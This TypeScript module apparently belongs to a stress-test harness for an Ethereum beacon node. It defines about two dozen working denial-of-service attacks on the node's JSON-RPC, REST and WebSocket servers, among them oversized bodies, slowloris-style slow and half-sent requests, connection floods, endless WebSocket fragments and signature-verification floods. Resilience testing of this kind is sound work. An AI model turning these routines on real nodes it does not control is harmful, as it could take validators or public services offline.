import { batchText, type Clients, callText, post, postHead } from "./clients.ts";

/** Runs until the attack is stopped. */
type Attack = (clients: Clients) => Promise<void>;

const MIB = 1024 * 1024;
const LARGEST_BODY = 32 * MIB;
/** Maximum number of calls in a batch. */
const BATCH_CALLS = 1000;
/** Time until a client disconnects without waiting for the response. */
const HURRY_MILLIS = 500;
const STATES = "/eth/v1/beacon/states";

/** Batches for a thousand states, whose sender does not wait for the response. */
function leftBatches(method: string): Attack {
  return (clients) =>
    clients.repeat(1, async () => {
      const { slot, jsonRpcUrl } = clients.target;
      const calls = Array.from({ length: BATCH_CALLS }, (_, id) => callText(method, [String(id % (slot + 1))], id));
      await clients.exchange(jsonRpcUrl, post(batchText(calls)), { leaveAfterMillis: HURRY_MILLIS });
    });
}

/** Parameters of the maximum request size, one text repeated. */
function longParams(method: string, before: string, item: string): Attack {
  return (clients) => {
    const start = `{"jsonrpc":"2.0","id":1,"method":"${method}","params":[${before}[`;
    const times = Math.floor((LARGEST_BODY - start.length - 100) / (item.length + 1));
    const request = post(`${start}${`${item},`.repeat(times - 1)}${item}]]}`);
    return clients.repeat(2, () => clients.exchange(clients.target.jsonRpcUrl, request));
  };
}

/** A string of the maximum body size, as parameter or id of a call. */
const longStrings: Attack = (clients) => {
  const method = '"jsonrpc":"2.0","method":"post_v1_beacon_pool_attestations"';
  const string = `"${"x".repeat(LARGEST_BODY - 200)}"`;
  const requests = [post(`{${method},"id":1,"params":[${string}]}`), post(`{${method},"params":[],"id":${string}}`)];
  let next = 0;
  return clients.repeat(2, () => clients.exchange(clients.target.jsonRpcUrl, requests[next++ % 2]!));
};

/** Brackets of the maximum body size, which are not valid JSON. */
const brackets: Attack = (clients) => {
  const start = '{"jsonrpc":"2.0","id":1,"method":"post_v1_beacon_pool_attestations","params":';
  const request = post(`${start}${"[]".repeat((LARGEST_BODY - 200) / 2)}}`);
  return clients.repeat(2, () => clients.exchange(clients.target.jsonRpcUrl, request));
};

/** Batches with the maximum number of values. */
const longBatches: Attack = (clients) => {
  const item = `"${"x".repeat(50)}"`;
  const items = Array(480_000).fill(item).join(",");
  const request = post(`[{"jsonrpc":"2.0","id":1,"method":"post_v1_beacon_pool_attestations","params":[[${items}]]}]`);
  return clients.repeat(2, () => clients.exchange(clients.target.jsonRpcUrl, request));
};

/** Batches with the largest responses. */
const committees: Attack = (clients) => {
  const calls = Array.from({ length: BATCH_CALLS }, (_, id) =>
    callText("get_v1_beacon_states_stateId_committees_epoch", ["head"], id),
  );
  return clients.repeat(4, () => clients.exchange(clients.target.jsonRpcUrl, post(batchText(calls))));
};

/** Batches of misspelt method names, each of which could trigger a suggestion. */
const unknownMethods: Attack = (clients) => {
  const calls = Array.from({ length: BATCH_CALLS }, (_, id) =>
    callText(`get_v1_beacon_states_stateId_validatr_balances_x${id}`, [], id),
  );
  return clients.repeat(20, () => clients.exchange(clients.target.jsonRpcUrl, post(batchText(calls))));
};

/** Opens this many connections, and reopens closed ones. */
async function keepOpen(clients: Clients, count: number, open: () => Promise<void>): Promise<void> {
  while (clients.areWanted) {
    const missing = Math.min(100, Math.ceil(count * clients.scale) - clients.count);
    if (missing > 0) await Promise.all(Array.from({ length: missing }, open));
    await clients.pause(missing > 0 ? 5 : 100);
  }
}

/** Incomplete bodies, on both servers. */
const halfBodies: Attack = (clients) => {
  const { jsonRpcUrl, restUrl } = clients.target;
  const beginning = Buffer.concat([
    Buffer.from('{"jsonrpc":"2.0","id":1,"method":"post_v1_beacon_pool_attestations","params":['),
    Buffer.alloc(LARGEST_BODY - MIB, " "),
  ]);
  const path = "/eth/v1/beacon/pool/attestations";
  return keepOpen(clients, 40, async () => {
    for (const url of [jsonRpcUrl, restUrl]) {
      const socket = await clients.connect(url);
      socket?.resume().write(postHead({ path, length: LARGEST_BODY, keepAlive: true }));
      socket?.write(beginning);
    }
  });
};

/** Bodies in chunks of one byte, each of which a careless server stores as an object. */
const tinyChunks: Attack = (clients) => {
  const chunks = "1\r\n \r\n".repeat(MIB);
  const { jsonRpcUrl } = clients.target;
  const method = '{"jsonrpc":"2.0","id":1,"method":"post_v1_beacon_pool_attestations","params":[';
  return keepOpen(clients, 20, async () => {
    const socket = await clients.connect(jsonRpcUrl);
    socket?.resume().write(`${postHead({ keepAlive: true })}${method.length.toString(16)}\r\n${method}\r\n`);
    for (let mib = 0; mib < 30; mib++) socket?.write(chunks);
  });
};

/** Endless headers, on both servers. */
const longHeads: Attack = (clients) => {
  const { jsonRpcUrl, restUrl } = clients.target;
  const beginning = `GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX: ${"x".repeat(MIB - 1000)}`;
  return keepOpen(clients, 1000, async () => {
    for (const url of [jsonRpcUrl, restUrl]) (await clients.connect(url))?.resume().write(beginning);
  });
};

/** The maximum number of pipelined requests, with unread responses. */
const unreadAnswers: Attack = (clients) => {
  const { jsonRpcUrl, restUrl } = clients.target;
  const calls = post(callText("get_v1_beacon_states_stateId_validators", ["head"]), { keepAlive: true });
  const ahead = Buffer.concat(Array.from({ length: 100 }, () => calls));
  const rest = `GET ${STATES}/head/validators HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n`.repeat(100);
  return keepOpen(clients, 200, async () => {
    (await clients.connect(jsonRpcUrl))?.write(ahead);
    (await clients.connect(restUrl))?.write(rest);
  });
};

const idleConnections: Attack = (clients) =>
  keepOpen(clients, 5000, async () => {
    (await clients.connect(clients.target.jsonRpcUrl))?.resume();
  });

/** A new connection for every request, from many clients at once. */
const shortConnections: Attack = (clients) => {
  const request = post(callText("getChainHead", []));
  return clients.repeat(200, () => clients.exchange(clients.target.jsonRpcUrl, request));
};

/** Requests that arrive byte by byte. */
const slowConnections: Attack = (clients) =>
  keepOpen(clients, 2000, async () => {
    const socket = await clients.connect(clients.target.jsonRpcUrl);
    if (socket === undefined) return;
    socket.resume();
    const request = post(callText("getChainHead", []));
    let sent = 0;
    const timer = setInterval(() => socket.write(request.subarray(sent, ++sent)), 1000);
    socket.once("close", () => clearInterval(timer));
  });

/** Messages in fragments of one byte that never end. */
const fragments: Attack = (clients) =>
  keepOpen(clients, 200, async () => {
    const socket = await clients.connectWebSocket();
    for (let sent = 0; sent < 20_000 && socket?.readyState === socket?.OPEN; sent++) {
      socket?.send(" ", { fin: false });
      if (sent % 1000 === 0) await clients.pause(1);
    }
  });

/** Minimal messages or pings in rapid succession. */
function tinyFrames(opcode: number): Attack {
  // Masked with zeros, since clients must mask frames.
  const frame = Buffer.from([0x80 | opcode, 0x80 | 1, 0, 0, 0, 0, 0x31]);
  const frames = Buffer.concat(Array.from({ length: 100_000 }, () => frame));
  const upgrade = [
    "GET / HTTP/1.1",
    "Host: 127.0.0.1",
    "Connection: Upgrade",
    "Upgrade: websocket",
    "Sec-WebSocket-Version: 13",
    "Sec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==",
    "\r\n",
  ].join("\r\n");
  return (clients) =>
    keepOpen(clients, 10, async () => {
      const socket = await clients.connect(clients.target.jsonRpcUrl);
      socket?.resume().write(upgrade);
      socket?.write(frames);
    });
}

/** Objects with very many distinct names. */
const manyMembers: Attack = (clients) => {
  const members = Array.from({ length: 70_000 }, (_, index) => `"name${index}":1`).join(",");
  const request = post(`{"jsonrpc":"2.0","id":1,"method":"getChainHead","params":{${members}}}`);
  return clients.repeat(4, () => clients.exchange(clients.target.jsonRpcUrl, request));
};

const logLevels: Attack = (clients) => {
  const topics = Array.from({ length: 50_000 }, (_, index) => `topic${index}`).join(",");
  const specs = ["TRACE", "INFO", `INFO; DEBUG:${topics}`, "x".repeat(900_000), ";".repeat(900_000)];
  let next = 0;
  return clients.repeat(8, () =>
    clients.exchange(clients.target.jsonRpcUrl, post(callText("setLogLevel", [specs[next++ % specs.length]]))),
  );
};

const TOPICS = ["head", "block", "attestation", "single_attestation", "finalized_checkpoint", "contribution_and_proof"];

/** Readers of every event that stop reading. */
const stalledReaders: Attack = (clients) =>
  keepOpen(clients, 500, async () => {
    const path = `/eth/v1/events?topics=${TOPICS.join(",")}`;
    const reader = await clients.connect(clients.target.restUrl);
    reader?.write(`GET ${path} HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n`);
    const socket = await clients.connectWebSocket();
    const subscription = callText("subscribe", [TOPICS]);
    for (let made = 0; made < 100 && socket?.readyState === socket?.OPEN; made++) socket?.send(subscription);
    socket?.pause();
  });

/** Thousands of well-formed objects, each with a signature to verify. */
const registrations: Attack = (clients) => {
  const one = {
    message: {
      fee_recipient: `0x${"fe".repeat(20)}`,
      gas_limit: "30000000",
      timestamp: "1700000000",
      pubkey: `0x${"a".repeat(96)}`,
    },
    signature: `0xc0${"00".repeat(95)}`,
  };
  const body = callText("post_v1_validator_register_validator", [Array.from({ length: 20_000 }, () => one)]);
  return clients.repeat(2, () => clients.exchange(clients.target.jsonRpcUrl, post(body)));
};

/** Whole states as JSON, from many clients at once. */
const states: Attack = (clients) => {
  const { restUrl } = clients.target;
  let next = 0;
  return clients.repeat(16, () => {
    const slot = next++ % (clients.target.slot + 1);
    const head = `GET /eth/v2/debug/beacon/states/${slot} HTTP/1.1\r\nHost: 127.0.0.1\r\nAccept-Encoding: gzip\r\nConnection: close\r\n\r\n`;
    return clients.exchange(restUrl, head, { leaveAfterMillis: HURRY_MILLIS });
  });
};

export const ATTACKS: Readonly<Record<string, Attack>> = {
  "state roots, sender gone": leftBatches("get_v1_beacon_states_root"),
  "validators, sender gone": leftBatches("get_v1_beacon_states_stateId_validators"),
  "32 MiB of fractions": longParams("post_v1_validator_duties_attester", '"0",', "1.5"),
  "32 MiB of attester duties": longParams("post_v1_validator_duties_attester", '"0",', '"1"'),
  "32 MiB of liveness": longParams("post_v1_validator_liveness_epoch", '"0",', '"1"'),
  "a string of 32 MiB": longStrings,
  "32 MiB of brackets": brackets,
  "batches of 480,000 values": longBatches,
  "batches of committees": committees,
  "batches of unknown methods": unknownMethods,
  registrations,
  "states, reader gone": states,
  "half-sent bodies": halfBodies,
  "chunks of one byte": tinyChunks,
  "half-sent heads": longHeads,
  "unread answers": unreadAnswers,
  "5,000 idle connections": idleConnections,
  "short-lived connections": shortConnections,
  "2,000 slow connections": slowConnections,
  "fragmented messages": fragments,
  "messages of one byte": tinyFrames(1),
  "pings of one byte": tinyFrames(9),
  "70,000 members": manyMembers,
  "log levels": logLevels,
  "stalled readers of events": stalledReaders,
};
